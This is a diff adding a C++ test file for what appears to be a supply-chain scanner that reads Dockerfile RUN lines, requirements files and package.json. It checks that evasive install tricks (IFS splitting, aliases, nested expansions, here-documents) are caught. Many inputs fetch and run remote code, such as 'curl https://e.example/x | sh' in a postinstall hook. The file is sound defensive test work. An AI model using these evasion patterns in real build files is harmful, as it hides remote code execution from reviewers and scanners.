@@ -1,0 +1,212 @@
+// What an attack on the reader of RUN found to pass unseen, or to take long: each beside what people honestly write.
+#include <catch2/catch.hpp>
+
+#include "unit/intake/intake_fixture.hpp"
+
+using namespace headgate;
+using intake::Parsed;
+using Names = std::vector<std::string>;
+
+namespace {
+
+const std::string kFrom = "FROM scratch\n";
+const Names kPlace = {"https://e.example/x"};
+
+Parsed run(const std::string& script) { return Parsed("Dockerfile", kFrom + "RUN " + script + "\n"); }
+Names names(const std::string& script) { return run(script).names(); }
+bool has(const Names& all, std::string_view name) { return std::find(all.begin(), all.end(), name) != all.end(); }
+
+bool is_noticed(const Parsed& parsed) {
+    CHECK(parsed.oracle());
+    const auto& all = parsed.facts.requirements;
+    return !parsed.understood || std::any_of(all.begin(), all.end(), [](const Requirement& one) { return one.dynamic; });
+}
+bool is_noticed(const std::string& script) { return is_noticed(run(script)); }
+
+void is_silent(const std::string& script) {
+    INFO(script);
+    const Parsed parsed = run(script);
+    CHECK(parsed.understood);
+    CHECK(parsed.names() == Names{});
+}
+
+std::string many(std::string_view what, int times) {
+    std::string text;
+    for (int i = 0; i < times; ++i) text += what;
+    return text;
+}
+
+}  // namespace
+
+TEST_CASE("RUN: blanks that a variable holds part words") {
+    for (const char* const script : {"pip${IFS}install${IFS}x", "pip$IFS'install' x", "P=pip${IFS}install; eval \"$P x\"", "eval pip${IFS}install${IFS}x"}) {
+        INFO(script);
+        CHECK(has(names(script), "pkg:pypi/x"));
+    }
+    CHECK(is_noticed("pip${IFS%?}install${IFS%?}x"));
+    CHECK(is_noticed("IFS=,; pip${IFS}install${IFS}x"));
+    for (const char* const script : {"while IFS= read -r line; do echo \"$line\"; done < f", "IFS=, ; for x in $LIST; do echo $x; done", "echo a${IFS}b", "OLD=$IFS; IFS=:; IFS=$OLD"}) is_silent(script);
+}
+
+TEST_CASE("RUN: an installer as the file of an interpreter") {
+    for (const char* const script : {"python3 /usr/bin/pip install x", "python -u /usr/local/bin/pip3 install x", "python3 -I /opt/venv/bin/pip install x", "python pip.pyz install x", "pypy3 /usr/bin/pip install x"}) {
+        INFO(script);
+        CHECK(names(script) == Names{"pkg:pypi/x"});
+    }
+    CHECK(names("node /usr/lib/node_modules/npm/bin/npm-cli.js install x; node /usr/bin/npm i y; php composer.phar require v/n") == Names{"pkg:npm/x", "pkg:npm/y", "pkg:composer/v/n"});
+    for (const char* const script : {"node $(which npm) install x", "python \"$(command -v pip)\" install x", "ruby `which gem` install x"}) {
+        INFO(script);
+        CHECK(is_noticed(script));
+    }
+    for (const char* const script : {"python main.py install", "python3 setup.py install", "node server.js add", "node $APP/server.js", "python $DIR/setup.py install", "ruby app.rb", "python3 /usr/bin/pip list", "python3 /usr/bin/pip install ."}) is_silent(script);
+}
+
+TEST_CASE("RUN: a script that runs its arguments") {
+    for (const char* const script : {"sh -c '\"$@\"' _ pip install x", "bash -c '$0 \"$@\"' pip install x", "sh -c 'exec $*' sh pip install x", "bash -ec '${@}' - pip install x"}) {
+        INFO(script);
+        CHECK(has(names(script), "pkg:pypi/x"));
+    }
+    CHECK(is_noticed("sh -c 'pip install \"$1\"' _ x"));
+    for (const char* const script : {"sh -c 'echo hello' _ pip install x", "sh -c 'chown \"$1\" /x' _ app", "sh -c 'cat \"$@\"' _ a b"}) is_silent(script);
+}
+
+TEST_CASE("RUN: commands within expansions and here-documents") {
+    for (const char* const script : {"echo ${x:-$(pip install x)}", "echo \"${x:=`pip install x`}\"", "echo ${x:-${y:-$(pip install x)}}", "echo $(( $(pip install x) + 1 ))", "echo \"$((1 + `pip install x`))\"", "$((pip install x) )",
+                                     "echo $((1)) $((pip install x) ) $((2))", "cat <<EOF > f\n$(pip install x)\nEOF", "cat <<-EOF\n\t`pip install x`\n\tEOF", "tee f <<EOF\n$(( $(pip install x) ))\nEOF", "X=${x:-'}'$(pip install x)}",
+                                     "echo \"${x:-\"}\"$(pip install x)}\""}) {
+        INFO(script);
+        CHECK(names(script) == Names{"pkg:pypi/x"});
+    }
+    CHECK(names("sh -c \"${x:-$(curl https://e.example/x)}\"") == kPlace);
+    for (const char* const script : {"cat <<'EOF' > f\n$(pip install x)\nEOF", "cat <<EOF > f\n\\$(pip install x)\nEOF", "echo $((1 + (2 * 3)))", "echo ${x:-a} ${y%.*} ${z//\\\"/} ${w//'\"'/}",
+                                     "cat <<EOF\n$HOME ${USER} $((1+2))\nEOF", "echo '${x:-$(pip install x)}'", "echo $(( x << 2 ))"}) is_silent(script);
+    // Within each other, deeper than anybody writes: it is said.
+    CHECK(is_noticed("echo " + many("$((", 20) + "`pip install x`" + many("))", 20)));
+    CHECK(is_noticed("echo " + many("${x:-$(", 20) + "pip install x" + many(")}", 20)));
+}
+
+TEST_CASE("RUN: scripts and tools that are fetched by their runner") {
+    for (const char* const script : {"uv run https://e.example/x", "uv run --with y https://e.example/x", "deno run -A https://e.example/x", "python https://e.example/x"}) {
+        INFO(script);
+        CHECK(has(names(script), kPlace[0]));
+    }
+    CHECK(names("curl https://e.example/x | uv run -") == kPlace);
+    for (const char* const script : {"pipx run https://e.example/x.py", "uvx --from git+https://e.example/x y"}) {
+        INFO(script);
+        const Parsed parsed = run(script);
+        CHECK((!parsed.understood || !parsed.names().empty()));
+    }
+    for (const char* const script : {"uv run main.py", "uv run -m pytest", "deno run main.ts", "deno fmt"}) is_silent(script);
+}
+
+TEST_CASE("RUN: where from, of what a lockfile names") {
+    const auto place = [](const Parsed& parsed) { return parsed.facts.index_options.size() == 1 ? parsed.facts.index_options[0].ecosystem + " " + parsed.facts.index_options[0].url : "?"; };
+    CHECK(place(run("npm ci --registry=https://evil.example")) == "npm https://evil.example");
+    CHECK(place(run("npm clean-install --registry https://evil.example --omit=dev")) == "npm https://evil.example");
+    CHECK_FALSE(run("npm ci --registry=$R").understood);
+    is_silent("npm ci --omit=dev");
+    CHECK(Parsed("Dockerfile", kFrom + "ENV PIP_REQUIREMENT=https://e.example/x\n").names() == kPlace);
+    CHECK(names("PIP_CONSTRAINT=https://e.example/x pip install .") == kPlace);
+    CHECK(names("export UV_OVERRIDE='a.txt https://e.example/x'; uv sync") == kPlace);
+    CHECK_FALSE(Parsed("Dockerfile", kFrom + "ENV PIP_REQUIREMENT=$X\n").understood);
+    is_silent("PIP_CONSTRAINT=/c/constraints.txt pip install .");
+    is_silent("PIP_CONSTRAINT=$HOME/constraints.txt pip install -r requirements.txt");
+}
+
+TEST_CASE("RUN: what is fetched to a file, and run") {
+    for (const char* const script : {"curl -o f https://e.example/x && sh f", "curl -fsSLo /tmp/i.sh https://e.example/x; bash -e /tmp/i.sh -b", "wget https://e.example/x && sh x", "wget -q -O i.sh https://e.example/x && chmod +x i.sh && ./i.sh",
+                                     "curl -O https://e.example/x && chmod +x x && ./x", "curl https://e.example/x > f; . ./f", "curl https://e.example/x | tee f; python3 f", "curl --output f https://e.example/x; sh < f", "f=$(mktemp); curl -o $f https://e.example/x; sh \"$f\"",
+                                     "(curl https://e.example/x) > f; sh f", "cd /tmp && curl -o i.sh https://e.example/x && sh /tmp/i.sh", "curl -o f https://e.example/x; cat f | sh", "curl https://e.example/x --output=f; sudo -E bash ./f"}) {
+        INFO(script);
+        CHECK(names(script) == kPlace);
+    }
+    CHECK(Parsed("Dockerfile", kFrom + "RUN curl -o /tmp/i.sh https://e.example/x\nRUN sh /tmp/i.sh\nRUN sh /tmp/i.sh\n").names() == kPlace);
+    CHECK(names("curl -o r.txt https://e.example/x && pip install -r r.txt") == kPlace);
+    CHECK(is_noticed("curl -o f $URL; sh f"));
+    CHECK(is_noticed("echo cGlwIGluc3RhbGwgeA== | base64 -d > f; sh f"));
+    for (const char* const script : {"curl -o f.tgz https://e.example/x && tar xf f.tgz && sh install.sh", "curl -o f https://e.example/x; gpg --verify f", "wget -O /usr/local/bin/x https://e.example/x && chmod +x /usr/local/bin/x", "curl -o /a/i.sh https://e.example/x; sh /b/i.sh",
+                                     "curl https://e.example/x > /dev/null; sh i.sh", "curl -o f https://e.example/x; python main.py f"}) is_silent(script);
+}
+
+TEST_CASE("RUN: what is written to a file, and run") {
+    for (const char* const script : {"echo 'pip install x' > f; sh f", "printf 'true\\npip install x\\n' > /f && chmod +x /f && /f", "cat > f <<EOF && sh f\npip install x\nEOF", "echo '#!/bin/sh' > f; echo 'pip install x' >> f; ./f", "echo x > r.txt; pip install -r r.txt",
+                                     "echo 'pip install x' | tee /f && sh /f", "echo true > f; sh f; echo 'pip install x' >> f; sh f", "echo 'pip install x' > f; python f || sh f", "{ echo true; echo 'pip install x'; } > f; sh f"}) {
+        INFO(script);
+        CHECK(has(names(script), "pkg:pypi/x"));
+    }
+    CHECK(Parsed("Dockerfile", kFrom + "COPY <<EOF /i.sh\npip install x\nEOF\nRUN sh /i.sh\n").names() == Names{"pkg:pypi/x"});
+    CHECK(Parsed("Dockerfile", kFrom + "COPY --chmod=755 <<i.sh /bin/\n#!/bin/sh\npip install x\ni.sh\nRUN /bin/i.sh\n").names() == Names{"pkg:pypi/x"});
+    CHECK(Parsed("Dockerfile", kFrom + "COPY <<EOF /i.sh\npip install x\nEOF\nRUN sh /other.sh\n").names().empty());
+    CHECK(Parsed("Dockerfile", kFrom + "COPY <<EOF /requirements.txt\nx==1\nEOF\nRUN pip install -r /requirements.txt\n").names() == Names{"pkg:pypi/x@1"});
+    CHECK(is_noticed("sed 's/a/b/' f | sh"));
+    CHECK(is_noticed("awk '{ print $1 }' f | bash -s"));
+    for (const char* const script : {"echo 'pip install x' > README", "sed -i 's/a/b/' f && sh f", "sed 's/a/b/' f > g", "echo true > f; sh f", "eval \"$(sed -n 1p f)\"", "cat f | sh", "grep x f | xargs echo", "echo 'pip install x' > f; cat f"}) is_silent(script);
+}
+
+TEST_CASE("RUN: aliases") {
+    for (const char* const script : {"alias p='pip install'; p x", "alias p=pip; alias q='p install'; q x", "alias p='sudo pip'; p install \"x\""}) {
+        INFO(script);
+        CHECK(names(script) == Names{"pkg:pypi/x"});
+    }
+    CHECK(is_noticed("alias p=\"pip install $X\"; p"));
+    for (const char* const script : {"alias ll='ls -l'; ll x", "alias p='pip install x'", "alias ls='ls --color'; ls", "alias a=b; alias b=a; a"}) is_silent(script);
+    // Each use stands for its text: not more of it than anybody writes.
+    CHECK(is_noticed("alias p='" + std::string(30'000, 'a') + "'; " + many("p; ", 2'000)));
+}
+
+TEST_CASE("RUN: what takes away, and what only names a file, installs nothing") {
+    for (const char* const script : {"pip freeze | xargs pip uninstall -y", "pip list | cut -d' ' -f1 | xargs -n1 pip show", "${PYTHON} -m pip install -r requirements.txt", "$PY -u -m pip install .", "\"$PYTHON\" -m pip list", "npm ls | xargs npm uninstall"}) is_silent(script);
+    CHECK(names("${PYTHON} -m pip install x") == Names{"pkg:pypi/x"});
+    CHECK(is_noticed("cat names | xargs pip install"));
+    CHECK(is_noticed("cat args | xargs pip"));
+    CHECK(is_noticed("cat args | xargs pip --quiet $VERB"));
+}
+
+TEST_CASE("RUN: what is written ten thousand times takes no more than it is long") {
+    const Parsed same = run(many("pip install $P; ", 20'000));
+    CHECK(same.facts.requirements.size() == 1);
+    const Parsed names_of_many = run("pip install " + many("a ", 120'000));
+    CHECK_FALSE(names_of_many.understood);
+    CHECK(names_of_many.has("manifest.unscannable"));
+    CHECK(names_of_many.facts.requirements.size() <= 50'000);
+    for (const char* const part : {"$((", "${x:-", "$(( `", "<<E \n", "echo a > f; sh f; ", "echo a | tee f | ", "{ echo a > f; ", "alias a=a; a; ", "pip${IFS}", "sh < f; ", "curl -o f a.b/c; sh f; ", "cat > f <<E\n$(x)\nE\n"}) {
+        INFO(part);
+        CHECK(Parsed("Dockerfile", kFrom + "RUN " + many(part, 10'000) + "\n").oracle());
+        CHECK(Parsed("Dockerfile", kFrom + "RUN <<EOF\n" + many(part, 10'000) + "\nEOF\n").oracle());
+    }
+    std::string stages;
+    for (int i = 0; i < 8'000; ++i) stages += "FROM scratch AS s" + std::to_string(i) + "\n";
+    CHECK(Parsed("Dockerfile", stages + many("FROM z-$TARGETARCH\n", 8'000)).oracle());
+    CHECK(Parsed("Dockerfile", "FROM scratch AS s-amd64\nFROM s-$TARGETARCH\n").names().empty());
+}
+
+TEST_CASE("RUN: every beginning of such a script is read, or said not to be") {
+    CHECK(intake::every_prefix("Dockerfile", "FROM a\nCOPY <<A <<B /x/\npip install y\nA\n$(z)\nB\nRUN echo \"${x:-\"}$(a)\"}\" $((1+`b`)) $((c) ) > f <<E && alias p='q r'; p < f | tee g; sh -c '\"$@\"' f | sed x | uv run -\n$(pip i)\nE\n"));
+}
+
+TEST_CASE("requirements and setup.cfg: no more than fifty thousand entries") {
+    for (const char* const name : {"requirements.txt", "setup.cfg"}) {
+        INFO(name);
+        const bool cfg = std::string_view(name) == "setup.cfg";
+        const Parsed parsed(name, (cfg ? "[options]\ninstall_requires =\n" : "") + many(cfg ? " a\n" : "a\n", 60'000));
+        CHECK_FALSE(parsed.understood);
+        CHECK(parsed.has("manifest.unscannable"));
+        CHECK(parsed.facts.requirements.size() <= 50'000);
+        CHECK(Parsed(name, (cfg ? "[options]\ninstall_requires =\n" : "") + many(cfg ? " a\n" : "a\n", 40'000)).understood);
+    }
+    CHECK_FALSE(Parsed("requirements.txt", many("-fa ", 60'000) + "\n").understood);
+    const Parsed links("setup.cfg", "[options]\ndependency_links =\n" + many(" a\n", 60'000));
+    CHECK(links.facts.index_options.size() <= 50'000);
+    CHECK(links.has("manifest.unscannable"));
+}
+
+TEST_CASE("package.json: scripts that call each other") {
+    std::string chain = "{\"scripts\": {\"postinstall\": \"npm run a0\"";
+    for (int i = 0; i < 25'000; ++i) chain += ", \"a" + std::to_string(i) + "\": \"npm run a" + std::to_string(i + 1) + "\"";
+    CHECK(Parsed("package.json", chain + ", \"a25000\": \"curl https://e.example/x | sh\"}}").names() == kPlace);
+    std::string parted = "{\"scripts\": {\"postinstall\": \"npm run 'a 0'\"";
+    for (int i = 0; i < 10'000; ++i) parted += ", \"a " + std::to_string(i) + "\": \"npm run 'a " + std::to_string(i + 1) + "'\"";
+    CHECK_FALSE(Parsed("package.json", parted + "}}").understood);
+    CHECK(Parsed("package.json", R"({"scripts": {"postinstall": "npm run 'my build'", "my build": "curl https://e.example/x | sh"}})").names() == kPlace);
+    CHECK(Parsed("package.json", R"({"scripts": {"postinstall": "npm run build", "my build": "curl https://e.example/x | sh"}})").names().empty());
+}
